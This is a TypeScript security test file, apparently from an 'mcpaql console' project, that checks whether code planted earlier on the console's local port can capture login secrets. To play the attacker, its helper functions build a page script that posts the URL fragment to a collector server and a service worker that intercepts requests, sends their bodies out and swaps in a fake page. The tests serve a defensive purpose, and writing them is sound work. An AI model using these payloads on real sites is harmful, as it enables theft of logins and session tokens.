import { spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { BIN, plainEnvironment } from './bin.ts'
import { hasBrowser, linkOf, onStage, openBrowser, SECRET, signedIn } from './console-stage.ts'
import { atTerminal, HAS_SCRIPT } from './terminal.ts'

const hasIpv6 = Object.values(networkInterfaces()).some((each) => each?.some(({ address }) => address === '::1'))

/** By which an operator might come to the port, and another program before. */
const NAMES = ['127.0.0.1', 'localhost', ...(hasIpv6 ? ['[::1]'] : [])]

let browser: Browser
/** Where the planted code sends whatever it sees. */
let collector: Server
let loot: string[] = []
const open: Server[] = []

beforeAll(async () => {
  collector = createServer(async (req, res) => {
    let text = ''
    for await (const piece of req) text += String(piece)
    loot.push(text)
    res.setHeader('access-control-allow-origin', '*').end()
  })
  await once(collector.listen(0, '127.0.0.1'), 'listening')
  if (hasBrowser) browser = await openBrowser()
}, 60_000)
beforeEach(() => {
  loot = []
})
afterEach(async () => {
  await Promise.all(browser?.contexts().map((context) => context.close()) ?? [])
  await Promise.all(open.splice(0).map(ended))
})
afterAll(async () => {
  await browser?.close()
  await ended(collector)
})

describe.skipIf(!hasBrowser)('SELF-08 what once answered on the port of the console', () => {
  test.each(['a service worker', 'a page that is cached for a year'])(
    '%s sees nothing of the console',
    async (plant) => {
      const context = await browser.newContext()
      const port = await plantAt(context, plant === 'a service worker')
      await onStage(
        async (stage) => {
          // The plant is alive: this is what the operator was shown without a name of our own.
          const plain = await context.newPage()
          await plain.goto(`http://127.0.0.1:${port}/#login=planted`)
          expect(await plain.title()).toBe('planted')
          await expect.poll(() => loot.join(), { timeout: 10_000 }).toContain('planted')
          loot = []

          const page = await context.newPage()
          await page.goto(`${stage.server.url}#login=${await linkOf(stage)}`)
          await page.waitForSelector('.dot.live')
          expect(await page.evaluate('navigator.serviceWorker.controller')).toBeNull()
          const typed = await context.newPage()
          await typed.goto(stage.server.url)
          await typed.fill('#login-secret', SECRET)
          await typed.keyboard.press('Enter')
          await typed.waitForSelector('.dot.live')
          await page.reload()
          await page.waitForSelector('.dot.live')
          expect(loot).toEqual([])
        },
        {},
        undefined,
        port,
      )
    },
    60_000,
  )

  test('an address without our name asks nothing', async () => {
    await onStage(async ({ server: { port } }) => {
      const page = await (await browser.newContext()).newPage()
      for (const name of NAMES) {
        await page.goto(`http://${name}:${port}/#login=${'x'.repeat(43)}`)
        expect(await page.textContent('body')).toContain('mcpaql console')
        expect(await page.locator('script, form, input, link, style').count()).toBe(0)
      }
    })
  })
})

describe.skipIf(!hasIpv6)('SELF-08 the console has no second listener', () => {
  test.skipIf(!hasBrowser)('nobody can listen on [::1] while it runs, and localhost is no way in', async () => {
    await onStage(async (stage) => {
      const { page, context } = await signedIn(stage, browser)
      const { port } = stage.server
      for (const host of ['::1', '127.0.0.1'])
        await expect(listening(host, port)).rejects.toMatchObject({ code: 'EADDRINUSE' })
      const other = await context.newPage()
      await other.goto(`http://localhost:${port}/`)
      expect(await other.locator('#login').count()).toBe(0)
      await page.reload()
      await page.waitForSelector('.dot.live')
    })
  })

  test.skipIf(!HAS_SCRIPT)(
    'where another program was there first it does not start, and says which address is taken',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'mcpaql-planted-'))
      const port = await listening('::1', 0)
      const { exit, shown } = await atTerminal(
        `exec ${process.execPath} ${BIN} console --no-open --port ${port}`,
        [
          ['characters or more: ', `${SECRET}\r`],
          ['same again: ', `${SECRET}\r`],
          ['Operator secret: ', `${SECRET}\r`],
        ],
        { ...plainEnvironment(folder), TERM: 'dumb' },
      )
      rmSync(folder, { recursive: true, force: true })
      expect(shown).toContain(`The console cannot start: [::1]:${port} is taken by another program`)
      expect(shown).toContain('End that program, or name another port: mcpaql console --port PORT')
      expect(shown).not.toContain('#login=')
      expect(exit).toBe(1)
    },
    60_000,
  )
})

test('SELF-08 a client that starts the server on stdio is not told the name of the console', () => {
  const folder = mkdtempSync(join(tmpdir(), 'mcpaql-planted-'))
  const args = [BIN, 'serve', 'demo', '--console-port', '0']
  const { stderr } = spawnSync(process.execPath, args, { env: plainEnvironment(folder), input: '', encoding: 'utf8' })
  rmSync(folder, { recursive: true, force: true })
  expect(stderr).toMatch(/Approvals: .* console \(http:\/\/127\.0\.0\.1:\d+\/\)/)
  expect(stderr).not.toContain('.localhost')
})

/** Answers under every name of this computer, leaves its page or worker in the browser, and goes. */
async function plantAt(context: BrowserContext, isWorker: boolean): Promise<number> {
  const port = await listening('127.0.0.1', 0, isWorker)
  if (hasIpv6) await listening('::1', port, isWorker)
  for (const name of NAMES) {
    const page = await context.newPage()
    await page.goto(`http://${name}:${port}/`)
    if (isWorker)
      await page.evaluate(`navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)`)
    await page.close()
  }
  await Promise.all(open.splice(0).map(ended))
  return port
}

async function listening(host: string, port: number, isWorker = false): Promise<number> {
  const server = createServer((req, res) => {
    const isScript = req.url === '/worker.js'
    res.setHeader('content-type', isScript ? 'text/javascript' : 'text/html')
    res.setHeader('cache-control', isWorker ? 'no-store' : 'max-age=31536000, immutable')
    res.end(isScript ? worker() : planted())
  })
  server.listen(port, host)
  await once(server, 'listening')
  open.push(server)
  return (server.address() as AddressInfo).port
}

function planted(): string {
  return `<title>planted</title><link rel="icon" href="data:,"><script>if (location.hash)
    fetch('${collected()}', { method: 'POST', mode: 'no-cors', body: location.hash })</script>`
}

/** Reports every request with its body, and shows the planted page in place of every other. */
function worker(): string {
  return `addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  if (new URL(event.request.url).origin !== location.origin) return
  const body = event.request.clone().text()
  event.respondWith(body.then((text) => fetch('${collected()}', { method: 'POST', mode: 'no-cors', body: event.request.url + text }))
    .then(() => event.request.mode === 'navigate'
      ? new Response(${JSON.stringify(planted())}, { headers: { 'content-type': 'text/html' } }) : fetch(event.request)))
})`
}

function collected(): string {
  return `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`
}

function ended(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.close(() => resolve())
    server.closeAllConnections()
  })
}
